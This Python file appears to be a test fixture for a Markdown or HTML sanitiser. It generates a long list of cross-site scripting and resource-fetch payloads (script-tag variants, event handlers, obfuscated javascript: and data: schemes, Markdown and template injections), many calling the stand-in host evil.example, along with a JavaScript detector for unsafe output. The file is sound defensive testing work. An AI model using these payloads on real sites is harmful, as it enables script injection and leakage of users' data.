"""Texts that try to run a script, or to fetch something from elsewhere, wherever they come onto a page.

Each would call ``ran()`` or ask ``evil.example`` for something. Made by combining ways in, not collected.
"""

RAN = "ran()"
ELSEWHERE = "//evil.example/x"
HANDLERS = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onpointerenter", "onanimationstart", "onbegin")
TAGS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "audio src=x",
    "iframe src=about:blank",
    "object data=x",
    "marquee",
    "select autofocus",
    "svg><animate",
)
SCRIPTS = (
    "<script>{ran}</script>",
    "<SCRIPT>{ran}</SCRIPT>",
    "<script\n>{ran}</script\n>",
    "<script/x>{ran}</script>",
    "<scr<script>ipt>{ran}</scr</script>ipt>",
    '<script src="{elsewhere}"></script>',
    "<svg><script>{ran}</script></svg>",
    "<math><mtext><script>{ran}</script></mtext></math>",
    "<noscript><p title='</noscript><script>{ran}</script>'></noscript>",
    "<style><img src='</style><script>{ran}</script>'></style>",
    "<!--><script>{ran}</script>-->",
    "<![CDATA[><script>{ran}</script>]]>",
    "</title><script>{ran}</script>",
    "</textarea><script>{ran}</script>",
    "</script><script>{ran}</script>",
    "</style><script>{ran}</script>",
    "</template><script>{ran}</script>",
    "</option></select><script>{ran}</script>",
    '"><script>{ran}</script>',
    "'><script>{ran}</script>",
    "\\u003cscript>{ran}\\u003c/script>",
    "&lt;script&gt;{ran}&lt;/script&gt;",
    "%3Cscript%3E{ran}%3C/script%3E",
    "＜script＞{ran}＜/script＞",
)
ATTRIBUTES = (
    '" onmouseover="{ran}" x="',
    "' onmouseover='{ran}' x='",
    '" autofocus onfocus="{ran}" x="',
    '" style="background:url({elsewhere})" x="',
    '`onmouseover="{ran}"`',
    '"/onclick="{ran}"',
)
SCHEMES = (
    "javascript:{ran}",
    "JaVaScRiPt:{ran}",
    " javascript:{ran}",
    "java\tscript:{ran}",
    "java&#10;script:{ran}",
    "&#106;avascript:{ran}",
    "&#x6A;avascript:{ran}",
    "javascript&colon;{ran}",
    "\x01javascript:{ran}",
    "javascript://%0a{ran}",
    "vbscript:{ran}",
    "data:text/html,<script>{ran}</script>",
    "data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={ran}>",
    "blob:{ran}",
)
FETCHES = (
    '<img src="{elsewhere}">',
    '<img srcset="{elsewhere} 2x">',
    '<link rel=stylesheet href="{elsewhere}">',
    '<link rel=prefetch href="{elsewhere}">',
    "<style>@import '{elsewhere}';</style>",
    '<iframe src="{elsewhere}"></iframe>',
    '<object data="{elsewhere}"></object>',
    '<embed src="{elsewhere}">',
    '<video poster="{elsewhere}"></video>',
    '<audio src="{elsewhere}" autoplay></audio>',
    '<body background="{elsewhere}">',
    '<table background="{elsewhere}"><td>x</td></table>',
    '<svg><image href="{elsewhere}"/></svg>',
    '<svg><use href="{elsewhere}#x"/></svg>',
    '<meta http-equiv=refresh content="0;url={elsewhere}">',
    '<base href="{elsewhere}">',
    '<form action="{elsewhere}"><button autofocus>x</button></form>',
    '<input type=image src="{elsewhere}">',
    '<p style="background:url({elsewhere})">x</p>',
    "![x]({elsewhere})",
    "![x](https:{elsewhere})",
    "![x][weg]\n\n[weg]: {elsewhere}",
    '![x]({elsewhere}){{alt="x"}}',
    "![x](/\\evil.example/x)",
    "![x](/bestanden/../..{elsewhere})",
    "[![x]({elsewhere})]({elsewhere})",
)
MARKDOWN = (
    "[x]({scheme})",
    "[x](<{scheme}>)",
    "![x]({scheme})",
    "<{scheme}>",
    "[x][s]\n\n[s]: {scheme}",
)
ODD = (
    '[x](https://a.nl "onmouseover="{ran}")',
    '[x](https://a.nl" onmouseover="{ran})',
    '![x](x){{onerror="{ran}"}}',
    '![x](x){{alt="\\" onerror=\\"{ran}"}}',
    '## Kop {{onclick="{ran}"}}',
    '# Kop {{#x" onclick="{ran}}}',
    "```html\n<script>{ran}</script>\n```",
    "`<script>{ran}</script>`",
    "| <script>{ran}</script> | b |\n| --- | --- |\n| <img src=x onerror={ran}> | d |",
    "x[^n]\n\n[^n]: <img src=x onerror={ran}>",
    'x[^"onclick={ran}]\n\n[^"onclick={ran}]: noot',
    "[@x\" onclick={ran}]",
    "```{{=html}}\n<script>{ran}</script>\n```",
    "`<script>{ran}</script>`{{=html}}",
    "::: {{onclick={ran}}}\nx\n:::",
    "<a href=https://a.nl onclick={ran}>x</a>",
    "#eval(\"{ran}\")",
    "{{{{ ran() }}}}{{% load x %}}",
    "${{ran()}}",
    "<x-y is=script>{ran}</x-y>",
)  # fmt: skip


def payloads() -> list[str]:
    """Return them all, none twice."""
    handlers = [f"<{tag} {handler}={{ran}}>" for tag in TAGS for handler in HANDLERS]
    schemes = [line.replace("{scheme}", scheme) for scheme in SCHEMES for line in MARKDOWN]
    made = [*SCRIPTS, *ATTRIBUTES, *FETCHES, *ODD, *handlers, *schemes]
    return list(dict.fromkeys(line.format(ran=RAN, elsewhere=ELSEWHERE) for line in made))


# What a page or file must not hold: looked for in a document that was read, not in its letters.
UNSAFE = """() => {
  const found = [];
  const schemes = /^[\\s\\u0000-\\u0020]*(javascript:|vbscript:|data:text|data:image\\/svg|blob:)/i;
  const addresses = ["href", "src", "action", "formaction", "data", "poster", "srcset", "xlink:href"];
  for (const element of document.querySelectorAll("*")) {
    const tag = element.tagName.toUpperCase();
    for (const { name, value } of element.attributes) {
      const isAddress = addresses.includes(name);
      if (/^on[a-z]+$/.test(name)) found.push(`${tag} ${name}=${value}`);
      if (isAddress && schemes.test(value)) found.push(`${tag} ${name}=${value}`);
      if (isAddress && tag !== "A" && value.includes("evil.example")) found.push(`${tag} ${value}`);
    }
    if (["IFRAME", "OBJECT", "EMBED", "BASE", "MARQUEE"].includes(tag)) found.push(tag);
    const isData = element.type === "application/ld+json";
    if (tag === "SCRIPT" && !isData && /ran\\(\\)/.test(element.textContent)) found.push(tag);
  }
  return found;
}"""
